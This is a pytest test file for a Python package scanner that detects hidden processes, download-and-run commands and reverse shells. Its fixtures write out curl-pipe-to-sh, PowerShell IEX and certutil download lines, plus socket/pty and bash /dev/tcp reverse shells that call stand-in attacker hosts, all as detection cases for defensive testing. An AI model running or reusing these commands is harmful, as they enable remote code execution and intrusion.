"""Process spawning: capabilities, hidden and detached processes, download-and-run, shells."""

from __future__ import annotations

import pytest

from stockade.analysis.model import Kind, Phase, Severity
from tests.analysis.python.helpers import hits, rules, scan_code, threats

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL


def test_process_in_setup_py_is_a_low_capability() -> None:
    findings = scan_code(
        """
        import subprocess, sys
        subprocess.check_call([sys.executable, "-m", "pip", "--version"])
        subprocess.check_call(["cmake", "--build", "."])
        """,
        INSTALL,
    )
    assert hits(findings, "py-process") == [(2, INSTALL), (3, INSTALL)]
    assert {f.severity for f in findings} == {Severity.LOW}
    assert "python -m pip --version" in findings[0].message
    assert threats(findings) == []


def test_runtime_processes_are_one_info_finding_per_file() -> None:
    findings = scan_code(
        """
        import os, subprocess

        def open_browser(url):
            subprocess.Popen(["xdg-open", url])

        def clear():
            os.system("clear")
        """
    )
    assert hits(findings, "py-process") == [(4, RUNTIME)]
    assert findings[0].severity is Severity.INFO


@pytest.mark.parametrize(
    "call",
    [
        'subprocess.Popen(["/dev/shm/.x"], start_new_session=True)',
        'subprocess.Popen("agent", creationflags=subprocess.DETACHED_PROCESS)',
        'subprocess.Popen("agent", creationflags=0x00000008)',
        "subprocess.Popen(['agent'], preexec_fn=os.setsid)",
        'os.system("nohup /dev/shm/.x >/dev/null 2>&1 &")',
        'subprocess.Popen(["pythonw", "payload.pyw"])',
        'subprocess.Popen(["agent"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
    ],
)
def test_hidden_or_detached_processes_at_install_time(call: str) -> None:
    findings = scan_code(
        f"""
        import os, subprocess
        {call}
        """,
        INSTALL,
    )
    assert hits(findings, "py-process-hidden") == [(2, INSTALL)]
    assert "py-process" not in rules(findings)


def test_detached_process_at_runtime_is_only_a_capability() -> None:
    findings = scan_code(
        """
        import subprocess

        def start_daemon():
            subprocess.Popen(["jupyter", "lab"], start_new_session=True)
        """
    )
    assert hits(findings, "py-process") == [(4, RUNTIME)]
    assert threats(findings) == []


def test_quiet_git_probe_in_setup_py_is_not_hidden() -> None:
    findings = scan_code(
        """
        import subprocess
        rc = subprocess.call(
            ["git", "status"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        """,
        INSTALL,
    )
    assert hits(findings, "py-process") == [(2, INSTALL)]
    assert threats(findings) == []


@pytest.mark.parametrize(
    "command",
    [
        "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "powershell.exe -NoP -WindowStyle Hidden -c whoami",
        "mshta.exe vbscript:close(0)",
    ],
)
def test_hidden_windows_commands_are_threats_anywhere(command: str) -> None:
    findings = scan_code(
        f"""
        import subprocess

        def go():
            subprocess.Popen({command!r}, shell=True)
        """
    )
    assert hits(findings, "py-process-hidden") == [(4, RUNTIME)]


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://files.pypi.test/i.sh | sh",
        "wget -qO- https://files.pypi.test/i.sh | bash",
        "wget https://files.pypi.test/a -O /dev/shm/a && chmod +x /dev/shm/a && /dev/shm/a",
        "powershell -c IEX (New-Object Net.WebClient).DownloadString('https://pypi.test/a')",
        "certutil -urlcache -split -f https://pypi.test/a.exe a.exe",
        "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://pypi.test/s\").read())'",
    ],
)
def test_shell_download_and_run(command: str) -> None:
    findings = scan_code(
        f"""
        import os
        os.system({command!r})
        """,
        INSTALL,
    )
    assert hits(findings, "py-shell-download-exec") == [(2, INSTALL)]


def test_command_assembled_from_parts_is_still_read() -> None:
    findings = scan_code(
        """
        import subprocess
        URL = "https://files.pypi.test/i.sh"
        cmd = "curl -s " + URL + " | sh"
        subprocess.run(cmd, shell=True)
        """,
        IMPORT,
    )
    assert hits(findings, "py-shell-download-exec") == [(4, IMPORT)]


def test_curl_to_a_file_is_not_download_and_run() -> None:
    findings = scan_code(
        """
        import subprocess
        subprocess.check_call(["curl", "-o", "data.json", "https://pypi.test/data.json"])
        """,
        INSTALL,
    )
    assert "py-shell-download-exec" not in rules(findings)
    assert hits(findings, "py-process") == [(2, INSTALL)]


def test_reverse_shell_with_dup2_and_pty() -> None:
    findings = scan_code(
        """
        import os, pty, socket

        def shell():
            s = socket.socket()
            s.connect(("attacker.pypi.test", 4444))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            pty.spawn("/bin/sh")
        """
    )
    assert hits(findings, "py-reverse-shell") == [(8, RUNTIME)]


def test_reverse_shell_with_socket_as_stdin() -> None:
    findings = scan_code(
        """
        import socket, subprocess
        s = socket.create_connection(("attacker.pypi.test", 443))
        subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        """,
        IMPORT,
    )
    assert hits(findings, "py-reverse-shell") == [(3, IMPORT)]


def test_reverse_shell_command_lines() -> None:
    findings = scan_code(
        """
        import os
        os.system("bash -i >& /dev/tcp/attacker.pypi.test/4444 0>&1")
        """
    )
    assert hits(findings, "py-reverse-shell") == [(2, RUNTIME)]


def test_pty_terminal_emulator_is_not_a_reverse_shell() -> None:
    findings = scan_code(
        """
        import os, pty

        def spawn(argv):
            pid, fd = pty.fork()
            if pid == 0:
                os.dup2(fd, 0)
                os.execvp(argv[0], argv)
            return fd
        """
    )
    assert "py-reverse-shell" not in rules(findings)
    assert [f.kind for f in findings] == [Kind.CAPABILITY]


def test_inline_python_code_is_analysed_too() -> None:
    findings = scan_code(
        """
        import subprocess, sys
        code = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBwcmludChvcy5nZXRjd2QoKSk='))"
        subprocess.Popen([sys.executable, "-c", code])
        """,
        INSTALL,
    )
    assert hits(findings, "py-exec-decoded") == [(3, INSTALL)]
